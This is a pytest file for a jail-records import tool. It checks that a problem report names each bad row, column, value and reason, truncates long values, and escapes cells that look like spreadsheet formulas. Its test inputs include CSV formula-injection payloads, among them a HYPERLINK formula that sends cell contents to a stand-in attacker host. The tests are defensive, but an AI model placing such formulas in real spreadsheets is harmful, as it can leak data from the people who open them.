"""The problem report: each row, column, value and reason; values cut short and never run as formulas."""

import csv
import io

import pytest

from divert.records.models import ImportStatus
from divert.records.report import neutralise, write_report
from divert.records.tests.conftest import jail_csv, jail_row


@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Rivera", "Rivera"), ("", ""), (None, ""),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def report_rows(imp) -> list[list[str]]:
    out = io.StringIO()
    write_report(imp, out)
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_the_report_names_row_column_value_and_reason(jail, write, do_import):
    imp = do_import(jail, write(jail_csv([jail_row(1), jail_row(2, DOB="02/30/1980", SEX="Q")])))
    header, *rows = report_rows(imp)
    assert header == ["row", "column", "value", "reason", "outcome"]
    assert [r[:3] for r in rows] == [["3", "DOB", "02/30/1980"], ["3", "SEX", "Q"]]
    assert rows[0][3] == "not a real date" and rows[0][4] == "file refused"


def test_formula_values_are_stored_as_text_and_neutralised_in_the_report(jail, write, do_import):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    imp = do_import(jail, write(jail_csv([jail_row(1, SEX=evil), jail_row(2, RACE="@cmd", LAST_NAME="-1+1")])))
    assert imp.status == ImportStatus.REJECTED
    assert imp.problems.filter(value=evil).exists()  # stored as sent
    rows = report_rows(imp)[1:]
    values = [r[2] for r in rows]
    assert "'" + evil in values and "'@cmd" in values
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_long_values_are_cut_in_the_report(jail, write, do_import):
    imp = do_import(jail, write(jail_csv([jail_row(1, CHARGE_DESC="y" * 900)])))
    value = report_rows(imp)[1][2]
    assert len(value) == 201 and value.endswith("…")


def test_a_file_level_problem_is_reported_without_a_row(jail, write, do_import):
    imp = do_import(jail, write(jail_csv([])))
    assert report_rows(imp)[1] == ["", "", "", "The file has a header but no rows.", "file refused"]
